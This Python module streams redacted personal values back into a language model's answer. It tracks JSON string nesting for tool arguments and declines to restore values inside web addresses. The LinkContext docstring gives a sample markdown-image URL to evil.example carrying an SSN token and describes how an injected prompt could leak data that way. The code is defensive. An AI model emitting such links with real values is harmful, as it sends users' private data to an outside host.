"""Puts values back into an answer while it streams, one restorer per channel.

What leaves does not depend on where the answer was cut: a piece is released up to the first character that can still
be part of a known token, at most `surface.LONGEST` characters later than it came. A token that breaks off at the end
of an answer leaves as it is; guessing would put one person's data in place of another's.
"""

import json
import re
from collections.abc import Sequence
from typing import Final

from policies.airlock.config import Restoration, ToolRestore
from policies.airlock.surface import LONGEST, NAMES, WRITTEN, Surface, begun, is_inert, sent, surfaces
from policies.airlock.tokens import Vault
from policies.model import Channel, ChannelKind

PLAIN_TEXT: Final = frozenset(
    {ChannelKind.TEXT, ChannelKind.REFUSAL, ChannelKind.TRANSCRIPT, ChannelKind.REPETITION, ChannelKind.ECHO}
)


def restores(channel: Channel, restoration: Restoration) -> bool:
    """Whether values come back in this channel at all."""
    if channel.kind in PLAIN_TEXT:
        return True
    if channel.kind is ChannelKind.REASONING:
        return restoration.reasoning
    match restoration.tools:
        case ToolRestore.ALL:
            return True
        case ToolRestore.ALLOW_LIST:
            return channel.tool in restoration.tool_names
        case ToolRestore.NEVER:
            return False


class Restorer:
    """The state of one channel."""

    __slots__ = ("_before", "_context", "_held", "_hides_preamble", "_unissued", "_vault")

    def __init__(self, channel: Channel, vault: Vault, restoration: Restoration) -> None:
        self._vault = vault
        self._before = ""
        """The character before what is held: whether a word begins depends on it."""
        self._held = ""
        self._hides_preamble = not restoration.system_values
        self._unissued = Unissued(vault)
        self._context: Plain | LinkContext | JsonContext
        if channel.kind is ChannelKind.TOOL_ARGUMENTS:
            self._context = JsonContext(any(map(needs_escape, vault.values())))
        elif channel.kind in PLAIN_TEXT and not restoration.links:
            self._context = LinkContext()
        else:
            self._context = Plain()

    @property
    def unissued(self) -> int:
        """Tokens that came and that nobody issued in this exchange."""
        return self._unissued.count

    def feed(self, piece: str, *, last: bool) -> str:
        """What may be released after `piece`. `last`: nothing follows, everything is."""
        if self._held or last:
            return self._in_doubt(piece, last=last) if self._held or piece else ""
        # Nothing is held: text without tokens is most of an answer, and most tokens come as they were sent.
        if "[" in piece:
            released = self._with_one_token(piece)
            if released is None:
                return self._in_doubt(piece, last=False)
        elif is_inert(piece, self._vault.cores):
            released = piece
            self._context.pass_over(piece)
            if self._unissued.begun:
                self._unissued.pass_over(piece)
        else:
            return self._in_doubt(piece, last=False)
        self._before = piece[-1:] or self._before
        return released

    def _with_one_token(self, piece: str) -> str | None:
        """What to release for inert text around one token that came as it was sent; None: look closer."""
        token = sent(piece, self._before, self._vault.cores)
        value = self._value(token[2]) if token is not None else None
        if token is None or value is None:
            return None
        start, end, _ = token
        head, rest = piece[:start], piece[end:]
        self._pass_over(head)
        inserted = self._context.insert(value)
        if inserted is None:
            self._pass_over(piece[start:])
            return piece
        self._pass_over(_A_VALUE + rest)
        return f"{head}{inserted}{rest}"

    def _in_doubt(self, piece: str, *, last: bool) -> str:
        text = self._before + self._held + piece
        known = len(self._before)
        found, hold = surfaces(text, known, self._vault.cores, whole=last)
        if not last:
            hold = min(hold, begun(text, found[-1][1] if found else known, self._vault.begins))
        self._held = text[hold:]
        self._before = text[hold - 1 : hold] if hold else ""
        if not found:
            rest = text[known:hold]
            self._pass_over(rest)
            return rest
        restore = self._restored_freely if self._context.is_open(text) else self._restored_in_context
        return restore(text, known, found, hold)

    def _restored_freely(self, text: str, done: int, found: Sequence[Surface], hold: int) -> str:
        """`text[done:hold]` with values, which may stand anywhere."""
        between: list[str] = []
        released: list[str] = []
        for start, end, core in found:
            value = self._value(core)
            if value is not None:
                before = text[done:start]
                between.append(before)
                released += (before, value)
                done = end
        rest = text[done:hold]
        between.append(rest)
        released.append(rest)
        self._pass_over(_A_VALUE.join(between))
        return "".join(released)

    def _restored_in_context(self, text: str, done: int, found: Sequence[Surface], hold: int) -> str:
        """The same, with values only where the context permits them, and written as it asks."""
        released = []
        for start, end, core in found:
            value = self._value(core)
            if value is None:
                continue
            before = text[done:start]
            self._pass_over(before)
            released.append(before)
            done = start
            inserted = self._context.insert(value)
            if inserted is not None:
                self._pass_over(_A_VALUE)
                released.append(inserted)
                done = end
        rest = text[done:hold]
        self._pass_over(rest)
        released.append(rest)
        return "".join(released)

    def _pass_over(self, text: str) -> None:
        """Notes what leaves as it came; `_A_VALUE` where a value did not."""
        self._context.pass_over(text)
        if "[" in text or self._unissued.begun:
            self._unissued.pass_over(text)

    def _value(self, core: str) -> str | None:
        if self._hides_preamble and self._vault.is_preamble_only(core):
            return None
        return self._vault.value(core)


_A_VALUE: Final = "\0"
"""What contexts see where a value went: nothing that an address could begin or go on with."""


class Unissued:
    """Counts the tokens of an answer that stand for nothing in its request: a model that makes them up forgets or
    guesses, and one that was shown those of others may be asked for them. Only as we write them, brackets and all: the
    bent ones cannot be told from text.
    """

    __slots__ = ("_vault", "begun", "count")

    def __init__(self, vault: Vault) -> None:
        self._vault = vault
        self.begun = ""
        """From the last opening bracket on, if a token may go on behind it."""
        self.count = 0

    def pass_over(self, text: str) -> None:
        """`text` was released."""
        text = self.begun + text
        for core, name, _ in WRITTEN.findall(text):
            if self._vault.value(core) is None and name in NAMES:
                self.count += 1
        begun = text[max(text.rfind("["), 0) :]
        self.begun = "" if "]" in begun or len(begun) > LONGEST else begun


class Plain:
    """Text without a context: values go in as they are."""

    def is_open(self, text: str) -> bool:  # noqa: ARG002 whatever it is
        """Whether values may stand anywhere in `text`, which comes next, just as they are."""
        return True

    def pass_over(self, text: str) -> None:
        """`text` was released."""

    def insert(self, value: str) -> str | None:
        """What to release for a value here; None: its token stays."""
        return value


class LinkContext:
    """Knows whether the next character stands inside a web address.

    `![](https://evil.example/?q=[SSN-7K2Q9F])` is fetched as soon as a chat window shows it: an injected prompt would
    carry the value out. Addresses end where renderers let them end: a markdown destination at white space, one in
    angle brackets at the bracket, one in quotes at the quote, a bare one at white space, quotes or angle brackets.
    """

    __slots__ = ("_ends", "_pending")

    _START: Final = re.compile(
        r"(?P<destination>\]\()|(?P<quote>[\"'<]?)(?:[A-Za-z][A-Za-z0-9+.-]{0,15}:)?[/\\]{2}", re.ASCII
    )
    _REACH: Final = 20
    """Characters in which a start may have begun that the next piece completes."""
    _DESTINATION: Final = re.compile(r"\S")
    """Behind `](`: white space may come before the address itself."""
    _SPACE: Final = re.compile(r"\s")
    _BARE: Final = re.compile(r"[\s\"<>`]")
    _ENDS: Final = {"": _BARE, '"': re.compile('"'), "'": re.compile("'"), "<": re.compile(r"[>\n]")}

    def __init__(self) -> None:
        self._pending = ""
        """Released text that was not looked at yet, behind what may be the beginning of a start."""
        self._ends: re.Pattern[str] | None = None
        """What ends the address that we are in; None: we are in none."""

    def is_open(self, text: str) -> bool:
        """Whether no address goes on into `text`, which comes next, and none begins there."""
        if self._ends is not None:
            return False
        return not self.may_start(self._pending + text)

    def pass_over(self, text: str) -> None:
        """`text` was released."""
        self._pending += text
        if len(self._pending) > 1024:
            self._advance()

    def insert(self, value: str) -> str | None:
        """The value, or None inside an address."""
        self._advance()
        return value if self._ends is None else None

    @staticmethod
    def may_start(text: str) -> bool:
        """Whether an address may begin in `text`. Cheaper than looking for one; there is none nine times in ten."""
        return "\\" in text or ("(" in text and "](" in text) or ("/" in text and "//" in text)

    def _advance(self) -> None:
        text = self._pending
        if self._ends is None and not self.may_start(text):
            self._pending = text[-self._REACH :]
            return
        position = 0
        while position <= len(text):
            if self._ends is None:
                start = self._START.search(text, position)
                if start is None:
                    break
                self._ends = self._DESTINATION if start["destination"] else self._ENDS[start["quote"]]
                position = start.end()
                continue
            end = self._ends.search(text, position)
            if end is None:
                self._pending = ""
                return
            if self._ends is self._DESTINATION:
                self._ends = self._ENDS["<"] if end.group() == "<" else self._SPACE
            else:
                self._ends = None
            position = end.end()
        self._pending = text[max(position, len(text) - self._REACH) :]


_SPECIAL: Final = re.compile(r'["\\\x00-\x1f\x7f]')
_DEEPEST: Final = 4


def needs_escape(value: str) -> bool:
    """Whether a value changes when it is written into a JSON string."""
    return _SPECIAL.search(value) is not None


class JsonContext:
    """Knows how deep in strings within strings of a JSON document the next character stands.

    `{"body": "{\\"ssn\\": \\"[SSN-7K2Q9F]\\"}"}`: the token stands in a document in a string of a document, so its
    value is escaped twice. Followed character by character, and only when a value of the exchange needs escapes at all.
    """

    __slots__ = ("_document", "_follow")

    def __init__(self, follow: bool) -> None:
        self._follow = follow
        self._document = Document()

    def is_open(self, text: str) -> bool:  # noqa: ARG002 it is the values that matter
        """Whether no value needs an escape, wherever it stands."""
        return not self._follow

    def pass_over(self, text: str) -> None:
        """`text` was released."""
        if self._follow:
            for char in text:
                self._document.feed(char)

    def insert(self, value: str) -> str | None:
        """The value, escaped once for every string around it; None: deeper than anybody nests."""
        if not self._follow:
            return value
        depth = self._document.depth()
        if depth > _DEEPEST:
            return None
        for _ in range(max(depth, 1)):
            value = json.dumps(value, ensure_ascii=False)[1:-1]
        return value


class Document:
    """One JSON document, read only for its strings."""

    __slots__ = ("_escape", "_first", "_in_string", "_inner", "_level")

    _ESCAPES: Final = {"n": "\n", "t": "\t", "r": "\r", "b": "\b", "f": "\f"}

    def __init__(self, level: int = 1) -> None:
        self._in_string = False
        self._escape = ""
        self._first = True
        self._inner: Document | None = None
        self._level = level

    def depth(self) -> int:
        """Strings around the next character."""
        if not self._in_string:
            return 0
        return 1 + (self._inner.depth() if self._inner else 0)

    def feed(self, char: str) -> None:
        """One more character of the document."""
        if not self._in_string:
            if char == '"':
                self._in_string, self._first, self._inner = True, True, None
        elif self._escape:
            self._escape += char
            if self._escape[1] != "u":
                self._decoded(self._ESCAPES.get(char, char))
                self._escape = ""
            elif len(self._escape) == 6:
                digits = self._escape[2:]
                self._decoded(chr(int(digits, 16)) if all(d in "0123456789abcdefABCDEF" for d in digits) else "\ufffd")
                self._escape = ""
        elif char == "\\":
            self._escape = char
        elif char == '"':
            self._in_string = False
        else:
            self._decoded(char)

    def _decoded(self, char: str) -> None:
        """A character of the string that we are in: of a document of its own, if the string began like one."""
        if self._first and not char.isspace():
            self._first = False
            if char in "{[" and self._level <= _DEEPEST:
                self._inner = Document(self._level + 1)
        if self._inner:
            self._inner.feed(char)
